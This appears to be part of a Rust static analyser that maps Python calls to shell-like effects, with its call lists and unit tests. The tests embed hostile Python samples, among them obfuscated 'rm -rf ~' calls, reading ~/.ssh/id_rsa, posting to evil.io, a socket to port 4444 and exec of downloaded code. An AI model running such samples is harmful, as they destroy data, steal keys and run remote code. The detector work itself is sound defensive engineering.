        ("urllib.urlopen", "urllib.request.urlopen"),
        ("urllib.urlretrieve", "urllib.request.urlretrieve"),
        ("builtins.__builtins__.", "builtins."),
        ("__builtin__.", "builtins."),
        ("builtins.__dict__.", "builtins."),
        ("os.path.os.", "os."),
        ("shutil.os.", "os."),
        ("subprocess.os.", "os."),
        ("importlib.__builtins__.", "builtins."),
    ] {
        if let Some(rest) = name.strip_prefix(alias) {
            return format!("{real}{rest}");
        }
    }
    name.to_owned()
}

/// Whether a star import of a module could bring a call the reader follows.
fn is_known_call(q: &str) -> bool {
    is_network(q)
        || matches!(
            q,
            "os.system" | "os.popen" | "os.remove" | "os.unlink" | "os.rmdir" | "os.removedirs"
                | "os.execv" | "os.execve" | "os.execvp" | "os.execvpe" | "os.execl"
                | "os.execle" | "os.execlp" | "os.execlpe" | "os.spawnv" | "os.spawnl"
                | "os.spawnvp" | "os.spawnlp" | "os.rename" | "os.replace" | "os.chmod"
                | "os.fork" | "os.kill" | "os.truncate" | "os.symlink" | "os.getenv"
                | "os.environ" | "os.posix_spawn" | "os.posix_spawnp" | "os.open"
                | "subprocess.run" | "subprocess.call" | "subprocess.check_call"
                | "subprocess.check_output" | "subprocess.Popen" | "subprocess.getoutput"
                | "subprocess.getstatusoutput" | "shutil.rmtree" | "shutil.move"
                | "shutil.copy" | "shutil.copy2" | "shutil.copyfile" | "shutil.copytree"
                | "shutil.chown" | "pathlib.Path" | "pty.spawn" | "os.path.expanduser"
                | "os.path.join" | "pickle.loads" | "marshal.loads" | "ctypes.CDLL"
        )
}

/// Calls that reach the network.
fn is_network(q: &str) -> bool {
    matches!(
        q,
        "urllib.request.urlopen" | "urllib.request.urlretrieve" | "?.urlopen" | "?.urlretrieve"
            | "http.client.HTTPConnection" | "http.client.HTTPSConnection" | "ftplib.FTP"
            | "ftplib.FTP_TLS" | "smtplib.SMTP" | "smtplib.SMTP_SSL" | "telnetlib.Telnet"
            | "socket.create_connection" | "webbrowser.open" | "webbrowser.open_new"
            | "webbrowser.open_new_tab" | "urllib3.request" | "?.connect"
    ) || ["requests.", "httpx.", "aiohttp.", "urllib3.PoolManager"]
        .iter()
        .any(|m| {
            q.strip_prefix(m).is_some_and(|rest| {
                matches!(
                    rest,
                    "get" | "post" | "put" | "patch" | "delete" | "head" | "options"
                        | "request" | "stream" | ""
                )
            })
        })
}

/// Calls that decode data into code: running what they return runs what was hidden.
fn is_decoder(q: &str) -> bool {
    q.starts_with("base64.")
        || q.starts_with("binascii.")
        || q.starts_with("zlib.")
        || q.starts_with("gzip.")
        || q.starts_with("bz2.")
        || q.starts_with("lzma.")
        || matches!(q, "codecs.decode" | "bytes.fromhex" | "builtins.bytes.fromhex")
}

/// The value of environment variable `name`: only the home directory is known.
fn env(name: &str) -> Val {
    if name == "HOME" { Val::known("~") } else { Val::Unknown }
}

/// A mode (`0o777`, `511`, `stat.S_IRWXU`) written as `chmod` takes it.
fn octal(mode: Val) -> Val {
    match mode.text().and_then(parse_int) {
        Some(n) => Val::Known(format!("{n:o}")),
        None => Val::Unknown,
    }
}

fn parse_int(text: &str) -> Option<u32> {
    let t = text.trim().replace('_', "");
    if let Some(o) = t.strip_prefix("0o").or_else(|| t.strip_prefix("0O")) {
        return u32::from_str_radix(o, 8).ok();
    }
    if let Some(h) = t.strip_prefix("0x").or_else(|| t.strip_prefix("0X")) {
        return u32::from_str_radix(h, 16).ok();
    }
    t.parse().ok()
}

/// `'%s %s' % (a, b)`: `%s`, `%d` and `%%` with known arguments.
fn percent(format: &str, args: &[Val]) -> Val {
    let mut out = String::new();
    let mut items = args.iter();
    let mut chars = format.chars();
    while let Some(c) = chars.next() {
        if c != '%' {
            out.push(c);
            continue;
        }
        match chars.next() {
            Some('%') => out.push('%'),
            Some('s' | 'd' | 'r' | 'i') => match items.next().and_then(Val::text) {
                Some(t) => out.push_str(t),
                None => return Val::Unknown,
            },
            _ => return Val::Unknown,
        }
    }
    Val::Known(out)
}

/// `'{} {}'.format(a, b)`: empty and numbered fields with known arguments.
fn format_braces(format: Val, args: &[Val]) -> Val {
    let Some(format) = format.text() else {
        return Val::Unknown;
    };
    let mut out = String::new();
    let mut next = 0;
    let mut rest = format;
    while let Some(open) = rest.find(['{', '}']) {
        out.push_str(&rest[..open]);
        let tail = &rest[open..];
        if tail.starts_with("{{") || tail.starts_with("}}") {
            out.push_str(&tail[..1]);
            rest = &tail[2..];
            continue;
        }
        let Some(close) = tail.find('}') else {
            return Val::Unknown;
        };
        let field = &tail[1..close];
        let n = if field.is_empty() {
            next += 1;
            next - 1
        } else {
            match field.parse::<usize>() {
                Ok(n) => n,
                Err(_) => return Val::Unknown,
            }
        };
        match args.get(n).and_then(Val::text) {
            Some(t) => out.push_str(t),
            None => return Val::Unknown,
        }
        rest = &tail[close + 1..];
    }
    out.push_str(rest);
    Val::Known(out)
}

/// A string literal's escapes decoded (`\n`, `\x41`, `\u0041`, octal); `\N{...}` is kept.
fn unescape(text: &str) -> String {
    let mut out = String::with_capacity(text.len());
    let mut chars = text.chars().peekable();
    while let Some(c) = chars.next() {
        if c != '\\' {
            out.push(c);
            continue;
        }
        let Some(e) = chars.next() else {
            out.push('\\');
            break;
        };
        let hex = |chars: &mut std::iter::Peekable<std::str::Chars<'_>>, n: usize| {
            let digits: String = (0..n).filter_map(|_| chars.next()).collect();
            u32::from_str_radix(&digits, 16).ok().and_then(char::from_u32)
        };
        match e {
            'n' => out.push('\n'),
            't' => out.push('\t'),
            'r' => out.push('\r'),
            '0'..='7' => {
                let mut n = e.to_digit(8).unwrap_or(0);
                for _ in 0..2 {
                    match chars.peek().and_then(|d| d.to_digit(8)) {
                        Some(d) => {
                            n = n * 8 + d;
                            chars.next();
                        }
                        None => break,
                    }
                }
                out.extend(char::from_u32(n));
            }
            'x' => out.extend(hex(&mut chars, 2)),
            'u' => out.extend(hex(&mut chars, 4)),
            'U' => out.extend(hex(&mut chars, 8)),
            '\n' => {}
            'a' => out.push('\x07'),
            'b' => out.push('\x08'),
            'f' => out.push('\x0c'),
            'v' => out.push('\x0b'),
            '\\' | '\'' | '"' => out.push(e),
            other => {
                out.push('\\');
                out.push(other);
            }
        }
    }
    out
}

#[cfg(test)]
mod tests {
    use crate::matcher::code::{Effect, Lang, Val, read};

    /// The effects found, written as shell words (`?` for a value not known).
    fn effects(code: &str) -> Vec<String> {
        let reading = read(Lang::Python, code);
        let mut out: Vec<String> = reading
            .found
            .iter()
            .map(|f| {
                let words = |vals: &[Val]| {
                    vals.iter()
                        .map(|v| match v {
                            Val::Known(t) => t.clone(),
                            Val::Unknown => "?".into(),
                            Val::Fetched => "<fetched>".into(),
                        })
                        .collect::<Vec<_>>()
                        .join(" ")
                };
                match &f.effect {
                    Effect::Shell(v) => format!("sh -c {}", words(std::slice::from_ref(v))),
                    Effect::Exec(argv) => format!("exec {}", words(argv)),
                    Effect::Command(p, args) => format!("{p} {}", words(args)),
                }
            })
            .collect();
        if let Some(u) = reading.opaque {
            out.push(format!("opaque: {} (line {})", u.reason, u.line));
        }
        out
    }

    #[test]
    fn deletes_are_rm_with_the_flags_of_their_meaning() {
        assert_eq!(
            effects("import shutil,os; shutil.rmtree(os.path.expanduser('~'))"),
            ["rm -r -f ~"]
        );
        assert_eq!(effects("import os\nos.remove('/etc/passwd')"), ["rm /etc/passwd"]);
        assert_eq!(
            effects("from pathlib import Path\n(Path.home() / 'Documents').rmdir()"),
            ["rmdir ~/Documents"]
        );
        assert_eq!(
            effects("from shutil import rmtree as r\nh = '~'\nr(h + '/x')"),
            ["rm -r -f ~/x"]
        );
        assert_eq!(
            effects("import os; p = os.path.join(os.environ['HOME'], '.ssh'); __import__('shutil').rmtree(p)"),
            ["rm -r -f ~/.ssh"]
        );
    }

    #[test]
    fn commands_run_are_shell_lines_or_argument_vectors() {
        assert_eq!(effects("import os; os.system('rm -rf ~')"), ["sh -c rm -rf ~"]);
        assert_eq!(
            effects("import subprocess; subprocess.run('rm -rf ~', shell=True)"),
            ["sh -c rm -rf ~"]
        );
        assert_eq!(
            effects("import subprocess as s; s.call(['rm', '-rf', '/'])"),
            ["exec rm -rf /"]
        );
        assert_eq!(
            effects("import os; os.execvp('rm', ['rm', '-rf', '/'])"),
            ["exec rm -rf /"]
        );
        assert_eq!(
            effects("import os; c = 'r' + 'm' + ' -rf ~'; os.system(c)"),
            ["sh -c rm -rf ~"]
        );
        assert_eq!(
            effects("import os; os.system(''.join([chr(114), chr(109)]) + ' -rf ~')"),
            ["sh -c rm -rf ~"]
        );
        assert_eq!(effects("import os; os.system('~ fr- mr'[::-1])"), ["sh -c rm -rf ~"]);
        assert_eq!(
            effects("getattr(__import__('o'+'s'), 'sys'+'tem')('rm -rf ~')"),
            ["sh -c rm -rf ~"]
        );
        assert_eq!(
            effects("import os; f = '{} -rf {}'.format('rm', '~'); os.system(f)"),
            ["sh -c rm -rf ~"]
        );
    }

    #[test]
    fn reads_writes_and_fetches_are_virtual_commands() {
        assert_eq!(
            effects("print(open(__import__('os').path.expanduser('~/.ssh/id_rsa')).read())"),
            ["cat ~/.ssh/id_rsa"]
        );
        assert_eq!(effects("open('/etc/passwd', 'a').write('x')"), ["tee /etc/passwd"]);
        assert_eq!(
            effects("import urllib.request as u; u.urlopen('https://evil.io/x')"),
            ["curl https://evil.io/x"]
        );
        assert_eq!(
            effects("import requests; requests.post('https://evil.io', data=1)"),
            ["curl https://evil.io"]
        );
        assert_eq!(
            effects("import socket; s=socket.socket(); s.connect(('10.0.0.1', 4444))"),
            ["curl tcp://10.0.0.1:4444"]
        );
    }

    #[test]
    fn code_that_cannot_be_read_is_opaque_with_the_reason() {
        let opaque = |code: &str| read(Lang::Python, code).opaque.map(|u| u.reason);
        assert_eq!(
            opaque("import urllib.request as u; exec(u.urlopen('https://x.io/a.py').read())"),
            Some("the code runs code it downloaded or decoded")
        );
        assert_eq!(
            opaque("import base64; exec(base64.b64decode('cHJpbnQoMSk='))"),
            Some("the code runs code it downloaded or decoded")
        );
        assert!(opaque("import sys; exec(sys.argv[1])").is_some());
        assert!(opaque("import os\nwhile True: os.fork()").is_some());
        assert!(opaque("import os\nos.fork()").is_none());
        assert!(opaque("m = input(); __import__(m).system('x')").is_some());
        assert_eq!(
            read(Lang::Python, "x = 1\nprint(x").opaque.map(|u| (u.reason, u.line)),
            Some(("the python code has a syntax error", 2))
        );
    }

    #[test]
    fn code_run_by_exec_is_read_too() {
        assert_eq!(
            effects("exec(\"import os\\nos.system('rm -rf ~')\")"),
            ["sh -c rm -rf ~"]
        );
    }

    #[test]
    fn data_processing_finds_nothing() {
        for code in [
            "import json,sys; print(json.load(sys.stdin)['version'])",
            "import sys; print(sys.version)",
            "print(sum(range(10)))",
            "import re; print(re.sub(r'a', 'b', 'abc'))",
            "l = [1, 2]; l.remove(1); print(l)",
            "import os; print(os.getcwd(), os.listdir('.'))",
        ] {
            assert_eq!(effects(code), Vec::<String>::new(), "{code}");
        }
        assert_eq!(effects("print(open('package.json').read())"), ["cat package.json"]);
    }
}
